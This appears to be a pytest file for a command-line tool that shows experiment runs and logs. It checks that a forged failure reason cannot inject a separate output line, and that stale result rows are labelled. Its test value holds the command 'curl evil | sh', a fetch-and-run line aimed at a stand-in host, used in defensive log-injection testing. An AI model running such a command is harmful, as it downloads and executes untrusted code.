"""`show` and `logs`: what others wrote stays on its own line, and what counts no more is said."""

from fractions import Fraction
from pathlib import Path

import pytest

from jobs.cli import main
from snnlib.spec.attack import FGSM
from tests.analysis.report_root import MANIFEST
from tests.analysis.synthetic import SyntheticRoot, label, mask, spec

FORGED = "it broke\nnext: curl evil | sh"


@pytest.fixture
def manifest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A manifest, and its run root in which one attempt failed."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "none"))
    monkeypatch.delenv("SPIKEGRID_SITE", raising=False)
    monkeypatch.setenv("SPIKEGRID_ROOT", str(tmp_path / "runs"))
    end = {"state": "failed", "reason": FORGED, "seconds": 2.5}
    SyntheticRoot(tmp_path / "runs").attempt(spec(0), 1, end)
    path = tmp_path / "shown.yaml"
    path.write_text(MANIFEST)
    return str(path)


@pytest.mark.parametrize("command", ["show", "logs"])
def test_a_reason_forges_no_line(
    manifest: str, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([command, label(spec(0)), "--manifest", manifest]) in (0, 2)
    captured = capsys.readouterr()
    lines = [*captured.out.splitlines(), *captured.err.splitlines()]
    (told,) = [line for line in lines if "it broke" in line]
    assert "it broke next: curl evil | sh" in told
    assert not [line for line in lines if line.startswith("next: curl")]


def test_rows_of_other_weights_are_told_as_such(
    manifest: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = SyntheticRoot(tmp_path / "runs")
    made.train(spec(1))
    for number, weights in enumerate("ab"):
        made.evaluate(
            spec(1), FGSM(), {Fraction(2, 255): mask(number, 9)}, model_sha256=weights * 64
        )
    assert main(["show", label(spec(1)), "--manifest", manifest]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if "/9" in line]
    told = ["which count no more" in line for line in lines]
    assert (sorted(told), ["1/9" in line for line in lines]) == ([False, True], told)


def test_a_cell_that_nobody_tried_has_no_log_to_read(
    manifest: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["show", label(spec(1)), "--manifest", manifest]) == 0
    assert capsys.readouterr().out.splitlines()[-1].endswith("launch.py status")
